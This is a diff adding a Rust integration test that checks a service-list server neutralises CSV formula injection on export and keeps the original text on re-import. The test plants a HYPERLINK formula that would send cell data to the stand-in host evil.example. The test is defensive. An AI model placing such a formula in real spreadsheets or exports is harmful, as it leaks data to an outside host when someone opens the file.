@@ -72,6 +72,37 @@ async fn export_uses_the_policys_columns(pool: PgPool) {
     assert_eq!(app.get("/lists/999999/export.csv").await.status(), 404);
 }
 
+/// The attack: a remark typed as a formula, filed, exported, and opened in Excel by someone
+/// else. The cell is written as text, and a file exported and imported again keeps the words.
+#[sqlx::test(migrator = "server::db::MIGRATOR")]
+async fn an_exported_cell_never_runs_as_a_formula(pool: PgPool) {
+    let app = spawn(pool).await;
+    let market = app.department_id("市场监督管理局").await;
+    let evil = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此查看\")";
+    sqlx::query("UPDATE service_items SET remarks = $1 WHERE name = '企业设立登记（营业执照）'")
+        .bind(evil)
+        .execute(&app.pool)
+        .await
+        .unwrap();
+    let csv = String::from_utf8(export(&app, market, "csv").await).unwrap();
+    let row = csv.lines().find(|l| l.contains("企业设立登记")).unwrap();
+    assert!(row.contains(",\"'=HYPERLINK("), "{row}");
+    assert!(!row.contains(",\"=HYPERLINK("), "{row}");
+
+    let client = app.client_as("manager01").await;
+    let res = import(&app, &client, market, "list.csv", csv.into_bytes()).await;
+    assert!(res.status().is_success(), "{}", res.status());
+    let remarks: String = sqlx::query_scalar(
+        "SELECT i.remarks FROM service_items i JOIN item_lists l ON l.id = i.list_id
+         WHERE l.department_id = $1 AND l.status = 'draft' AND i.name = '企业设立登记（营业执照）'",
+    )
+    .bind(market)
+    .fetch_one(&app.pool)
+    .await
+    .unwrap();
+    assert_eq!(remarks, evil);
+}
+
 #[sqlx::test(migrator = "server::db::MIGRATOR")]
 async fn an_import_with_a_bad_row_changes_nothing_and_lists_every_bad_row(pool: PgPool) {
     let app = spawn(pool).await;
